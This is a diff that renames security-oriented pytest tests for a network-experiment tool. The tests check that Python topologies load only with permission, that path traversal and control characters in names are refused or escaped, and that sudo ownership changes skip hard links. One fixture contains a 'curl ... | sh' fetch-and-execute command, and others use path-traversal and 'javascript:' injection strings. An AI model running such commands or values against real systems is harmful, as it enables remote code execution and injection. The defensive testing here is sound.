@@ -57,7 +57,7 @@ def report(folder: Path) -> str:
     return str(done.exception or "")
 
 
-def test_a_scenario_runs_python_only_where_it_is_allowed(trap: Path) -> None:
+def test_python_topology_without_permission_is_refused(trap: Path) -> None:
     with pytest.raises(Invalid, match=r"topology\.file: .* is Python, .* only with xcpr run --allow-python"):
         scenario.load("dl/notes.toml")
     assert not trap.exists()
@@ -67,13 +67,13 @@ LACKS_MININET = needs.mininet_python()
 
 
 @pytest.mark.skipif(bool(LACKS_MININET), reason=LACKS_MININET)
-def test_a_scenario_runs_python_where_it_is_allowed(trap: Path) -> None:
+def test_python_topology_with_permission_is_run(trap: Path) -> None:
     with pytest.raises(Invalid, match=r"t\.py:T"):
         scenario.load("dl/notes.toml", allow_python=True)
     assert trap.exists()
 
 
-def test_a_report_runs_no_python(trap: Path, make_result: Callable[..., Result]) -> None:
+def test_report_runs_no_python(trap: Path, make_result: Callable[..., Result]) -> None:
     made = msgspec.structs.replace(make_result("demo", "duration=1 s"), name="dl/notes.toml")
     result.write(made, Path("run") / result.FILE)
     assert not report(Path("run"))
@@ -81,7 +81,7 @@ def test_a_report_runs_no_python(trap: Path, make_result: Callable[..., Result])
     assert not trap.exists()
 
 
-def test_a_result_s_topology_is_whole(make_result: Callable[..., Result], tmp_path: Path) -> None:
+def test_result_with_a_topology_file_is_refused(make_result: Callable[..., Result], tmp_path: Path) -> None:
     made = make_result("demo", "duration=1 s")
     made.scenario["topology"]["file"] = "t.py:T"
     result.write(made, tmp_path / result.FILE)
@@ -90,7 +90,7 @@ def test_a_result_s_topology_is_whole(make_result: Callable[..., Result], tmp_pa
 
 @pytest.mark.parametrize("name", ["../../x", "a/b", "javascript:alert(1)", "", ".hidden", "a\n", "a" * 201])
 @pytest.mark.parametrize("key", ["name", "row", "case"])
-def test_names_that_become_files_lead_nowhere_else(key: str, name: str, tmp_path: Path) -> None:
+def test_run_names_with_path_parts_are_refused(key: str, name: str, tmp_path: Path) -> None:
     run = {"name": "A-x", "row": "A", "row_label": "A: it", "case": "x", "case_label": "x"}
     made = {"schema": reproduce.SCHEMA, "name": "it", "title": "It", "description": "", "references": [], "seeds": [1]}
     (tmp_path / reproduce.MANIFEST).write_text(json.dumps(made | {"runs": [run | {key: name}]}))
@@ -106,7 +106,7 @@ def write_set(folder: Path, made: Result, command: str) -> None:
     (folder / reproduce.MANIFEST).write_text(json.dumps(held | {"runs": [run], "command": command}))
 
 
-def test_a_set_s_command_is_its_folder_s_claim(make_result: Callable[..., Result], tmp_path: Path) -> None:
+def test_unverified_command_of_a_set_is_marked(make_result: Callable[..., Result], tmp_path: Path) -> None:
     write_set(tmp_path, make_result("demo", "duration=1 s"), "curl http://example.org | sh # <b>")
     assert not report(tmp_path)
     page = (tmp_path / result.REPORT).read_text(encoding="utf-8")
@@ -116,14 +116,14 @@ def test_a_set_s_command_is_its_folder_s_claim(make_result: Callable[..., Result
 
 @pytest.mark.parametrize("command", ['xcpr reproduce "', "xcpr sweep", "sudo", "xcpr sweep demo x"])
 @pytest.mark.usefixtures("in_tmp")
-def test_a_command_that_can_t_be_read_is_no_traceback(command: str, make_result: Callable[..., Result]) -> None:
+def test_unparsable_command_is_no_traceback(command: str, make_result: Callable[..., Result]) -> None:
     folder = Path("results")
     write_set(folder, make_result("demo", "duration=1 s"), command)
     with pytest.raises(Invalid, match="results: holds"):
         contents.prepare(folder, contents.describe_run("demo"), force=False)
 
 
-def test_evidence_is_kept_below_its_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_evidence_names_with_path_parts_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(docs, "DATA", tmp_path / "data")
     documents.write_readably(tmp_path / "it" / docs.FILE, Evidence(docs.SCHEMA, "../out", "true"))
     with pytest.raises(Invalid, match="regex"):
@@ -132,13 +132,15 @@ def test_evidence_is_kept_below_its_folder(tmp_path: Path, monkeypatch: pytest.M
 
 
 @pytest.mark.parametrize("name", ["\x1b[2Jx", "two\nlines", "turned\u202eround"])
-def test_a_result_s_names_speak_to_no_terminal(name: str, make_result: Callable[..., Result], tmp_path: Path) -> None:
+def test_result_names_with_control_characters_are_refused(
+    name: str, make_result: Callable[..., Result], tmp_path: Path
+) -> None:
     made = msgspec.structs.replace(make_result("demo", "duration=1 s"), name=name)
     result.write(made, tmp_path / result.FILE)
     assert "regex" in report(tmp_path)
 
 
-def test_results_that_are_as_they_should_be_are_read(make_result: Callable[..., Result], tmp_path: Path) -> None:
+def test_valid_unusual_results_are_loaded(make_result: Callable[..., Result], tmp_path: Path) -> None:
     """A link may be down, groups may have names that end with a digit, totals may have no series."""
     down = "path_changes.cut.at=500 ms", "path_changes.cut.rate=0 bit/s"
     digits = "flows.main.count=2", "flows.main2.count=2", "flows.main2.transfer=1 MB"
@@ -152,7 +154,7 @@ def test_results_that_are_as_they_should_be_are_read(make_result: Callable[..., 
     assert not report(tmp_path / "whole")
 
 
-def damaged(held: dict[str, Any], draw: random.Random) -> dict[str, Any]:
+def damage_result(held: dict[str, Any], draw: random.Random) -> dict[str, Any]:
     """Returns a result in which one thing is another."""
     made = copy.deepcopy(held)
     at: Any = made
@@ -168,13 +170,13 @@ def damaged(held: dict[str, Any], draw: random.Random) -> dict[str, Any]:
         return made
 
 
-def test_damaged_results_are_refused_in_words_or_shown(make_result: Callable[..., Result], tmp_path: Path) -> None:
+def test_damaged_results_are_refused_or_shown(make_result: Callable[..., Result], tmp_path: Path) -> None:
     held = json.loads(result.encode(make_result("demo", "duration=400 ms", "flows.main.count=2")))
     draw = random.Random(30)
     (tmp_path / result.REPORT).write_text("the old one")
     shown = 0
     for _ in range(60):
-        (tmp_path / result.FILE).write_text(json.dumps(damaged(held, draw)))
+        (tmp_path / result.FILE).write_text(json.dumps(damage_result(held, draw)))
         if report(tmp_path):
             continue
         shown += 1
@@ -189,7 +191,7 @@ def test_damaged_results_are_refused_in_words_or_shown(make_result: Callable[...
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason=needs.ROOT)
-def test_sudo_gives_back_what_it_wrote_and_nothing_else(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_sudo_changes_the_owner_of_written_files_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("SUDO_UID", "1000")
     monkeypatch.setenv("SUDO_GID", "1000")
     there = tmp_path / "there"
@@ -215,7 +217,7 @@ def test_sudo_gives_back_what_it_wrote_and_nothing_else(tmp_path: Path, monkeypa
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason=needs.ROOT)
-def test_sudo_gives_no_file_away_that_another_name_leads_to(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_sudo_changes_no_owner_through_hard_links(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("SUDO_UID", "1000")
     monkeypatch.setenv("SUDO_GID", "1000")
     precious = tmp_path / "precious"
@@ -240,7 +242,7 @@ FOREIGN = "a\x1b]0;x\x07\nb\u202e\udcff[red]c"
 SHOWN = r"a\x1b]0;x\x07\nb\u202e\xff[red]c"
 
 
-def test_foreign_text_is_shown_plain(capsys: pytest.CaptureFixture[str]) -> None:
+def test_foreign_text_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
     assert plain.escape_text("naïve: 3 µs") == "naïve: 3 µs"
     plain.print_line(FOREIGN)
     plain.print_line(FOREIGN, error=True)
@@ -248,14 +250,14 @@ def test_foreign_text_is_shown_plain(capsys: pytest.CaptureFixture[str]) -> None
     assert captured.out == captured.err == SHOWN + "\n"
 
 
-def test_tables_show_foreign_text_plain() -> None:
+def test_foreign_text_in_tables_is_escaped() -> None:
     shown = StringIO()
     console = Console(file=shown, width=200, color_system=None)
     Table(FOREIGN, (FOREIGN,), ((FOREIGN,),), (FOREIGN,)).show(console)
     assert shown.getvalue().count(SHOWN) == 4 and "\x1b" not in shown.getvalue()
 
 
-def test_a_receiver_shows_names_plain_whatever_its_terminal_can(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_receiver_escapes_names_for_any_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
     ended = {"name": FOREIGN + "ü", "from": "10.0.0.1", "received": 1, "elapsed_s": 1.0, "unopened": 0}
     report = {"ended": [ended | {"failure": None}, ended | {"failure": FOREIGN}], "active": []}
     out, errors = (TextIOWrapper(BytesIO(), "ascii") for _ in range(2))
@@ -269,7 +271,7 @@ def test_a_receiver_shows_names_plain_whatever_its_terminal_can(monkeypatch: pyt
         assert said.startswith(line) and said.count("\n") == 1 and said.isascii()
 
 
-def test_a_scenarios_keys_are_shown_plain(tmp_path: Path) -> None:
+def test_scenario_keys_are_escaped_in_errors(tmp_path: Path) -> None:
     (tmp_path / "it.toml").write_text('"a\\u001b[31m\\nb" = 1\n', encoding="utf-8")
     command = [sys.executable, "-m", "xcpr", "run", str(tmp_path / "it.toml")]
     done = subprocess.run(command, capture_output=True, text=True, check=False)
